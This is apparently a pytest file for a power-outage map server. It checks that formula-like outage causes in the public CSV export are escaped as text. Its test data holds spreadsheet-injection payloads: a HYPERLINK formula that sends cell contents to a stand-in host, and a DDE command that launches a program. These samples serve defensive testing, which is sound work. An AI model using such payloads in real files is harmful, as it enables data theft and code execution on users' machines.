"""pygeoapi's public CSV (`/oapi/collections/outages/items?f=csv`) against the app under
uvicorn: a cause or text that starts like a spreadsheet formula opens as text, as in the
regulator's deliveries CSV (one rule: gis_outage/spreadsheet.py); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest

from gis_outage.config import Settings
from gis_outage.spreadsheet import FORMULA_START, cell
from gis_outage.storage.db import make_engine, migrate
from map_server.app import create_app
from tests.map_server.data import add_addresses, new_outage

from .live import serving

CAUSES = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULA_START)
def test_formula_like_causes_are_text_in_the_public_csv(tmp_path: Path, start: str) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'outages.sqlite'}")
    migrate(engine)
    add_addresses(engine)
    cause = CAUSES[start]
    new_outage(engine, cause=cause, texts={"fi": cause, "sv": "Rörbrott"}, customers=7)
    new_outage(engine, cause="Putkirikko", addresses=("A2",), customers=3)
    with serving(
        lambda url: create_app(Settings(data_dir=tmp_path, public_url=url), engine)
    ) as url:
        response = httpx.get(f"{url}/oapi/collections/outages/items", params={"f": "csv"})
    engine.dispose()
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2
    [hostile] = [r for r in rows if r["customers"] == "7"]
    [plain] = [r for r in rows if r["customers"] == "3"]
    texts = [v for v in hostile.values() if cause.strip("\t\r") in v]
    assert texts, hostile  # the cause is in the row...
    assert all(v == "'" + cause for v in texts), texts  # ...each time as text
    assert not any(v.startswith(FORMULA_START) for r in rows for v in r.values() if v), rows
    assert "Putkirikko" in plain.values()
    # An E.164 number can only be read as a number: the one exception, in every CSV.
    assert cell("+358401234567") == "+358401234567" and cell(-24.5) == -24.5
